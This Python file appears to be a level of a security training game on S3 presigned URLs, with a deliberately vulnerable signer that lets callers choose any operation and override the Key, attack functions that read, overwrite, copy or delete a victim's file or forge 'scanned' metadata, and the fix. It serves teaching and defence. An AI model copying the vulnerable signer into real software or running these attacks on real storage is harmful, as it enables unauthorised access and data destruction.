"""Level 5: the page says which operation is signed, with which parameters."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from helpers.errors import Denied
from helpers.flags.level import Level, Use, content, expect, must
from helpers.flags.world import OWN, Stage, World


def sign(s3: Any, bucket: str, user: str, do: str, name: str, **more: Any) -> str:
    params = {"Bucket": bucket, "Key": f"{user}/{name}", **more}
    return s3.generate_presigned_url(do, params, 300)


def fix(s3: Any, bucket: str, user: str, do: str, name: str, ContentType: str | None = None) -> str:
    params = {"Bucket": bucket, "Key": f"{user}/{name}"}
    if do not in ("get_object", "put_object"):
        raise Denied
    if do == "put_object" and ContentType:
        params["ContentType"] = ContentType
    return s3.generate_presigned_url(do, params, 300)


def other_key(world: World) -> object:
    """a second Key among the parameters"""
    return world.send(world.sign("get_object", "x", Key=world.target)).body


def overwrite(world: World) -> object:
    """an upload with a second Key"""
    return world.send(world.sign("put_object", "x", Key=world.target), "PUT", "defaced")


def copy(world: World) -> object:
    """a copy of the victim's file into the attacker's folder"""
    source = f"{world.bucket}/{world.target}"
    url = world.sign("copy_object", "copy.txt", CopySource=source)
    world.send(url, "PUT", headers={"x-amz-copy-source": source})
    return world.send(world.sign("get_object", "copy.txt")).body


def delete(world: World) -> object:
    """a deletion"""
    return world.send(world.sign("delete_object", "x", Key=world.target), "DELETE")


def mark(world: World) -> object:
    """an upload that carries the application's own mark, scanned"""
    url = world.sign("put_object", "virus.exe", Metadata={"scanned": "yes"})
    return world.send(url, "PUT", "virus", {"x-amz-meta-scanned": "yes"})


def captured(stage: Stage, got: object) -> bool:
    if stage.secret in content(got) or stage.get(stage.target) != stage.secret:
        return True
    return any(_is_marked(stage, key) for key in stage.objects())


def _is_marked(stage: Stage, key: str) -> bool:
    found: dict[str, str] = stage.root.head_object(Bucket=stage.bucket, Key=key)["Metadata"]
    return "scanned" in found


def uses(stage: Stage) -> Iterator[Use]:
    me = stage.me

    def own() -> None:
        expect(stage.send(stage.sign(me, "get_object", "mine.txt")), OWN)

    def upload() -> None:
        expect(stage.send(stage.sign(me, "put_object", "a b.txt"), "PUT", "new"))
        must(stage.get(f"{me}/a b.txt") == b"new", f"It is not at {me}/a b.txt.")

    def typed() -> None:
        url = stage.sign(me, "put_object", "a.png", ContentType="image/png")
        expect(stage.send(url, "PUT", "PNG", {"Content-Type": "image/png"}))
        url = stage.sign(me, "put_object", "b.png", ContentType="image/png")
        other = stage.send(url, "PUT", "PNG", {"Content-Type": "text/html"})
        must(not other.ok, "With a different type than the signed one, S3 took it as well.")

    yield "a user downloads 'mine.txt' (get_object)", own
    yield "a user uploads 'a b.txt' (put_object)", upload
    yield (
        "a user uploads a picture with its type signed (put_object, ContentType='image/png')",
        typed,
    )


LEVEL = Level(
    number=5,
    title="Any verb, any parameter",
    minutes=25,
    story="One endpoint for everything: the page says what to `do`, and sends further parameters "
    "when it needs them. Files that Attic has scanned get the metadata `scanned`.",
    goal="One of: return the victim's content, change or delete the victim's file, or upload a "
    "file that has the metadata `scanned`.",
    gives="`world.target` and `world.sign(do, name, **more)`, such as "
    "`world.sign('get_object', 'mine.txt')`.",
    incident=(
        "A pull request to Uppy's server added an endpoint that presigns any "
        "operation; it was closed "
        "([uppy#6209](https://github.com/transloadit/uppy/pull/6209), 2026). Rails' "
        "Active Storage merged a client's metadata into its own flags (CVE-2026-33173)"
    ),
    hints=(
        "Which operations does `generate_presigned_url` know besides these two?",
        "In `{'Key': a, **more}` the later entry wins.",
        "`world.sign('get_object', 'x', Key=world.target)`. Fix: allow two operations and one "
        "parameter by name; take nothing else.",
    ),
    signers=(sign,),
    attacks=(other_key, overwrite, copy, delete, mark),
    captured=captured,
    uses=uses,
    fix=fix,
)
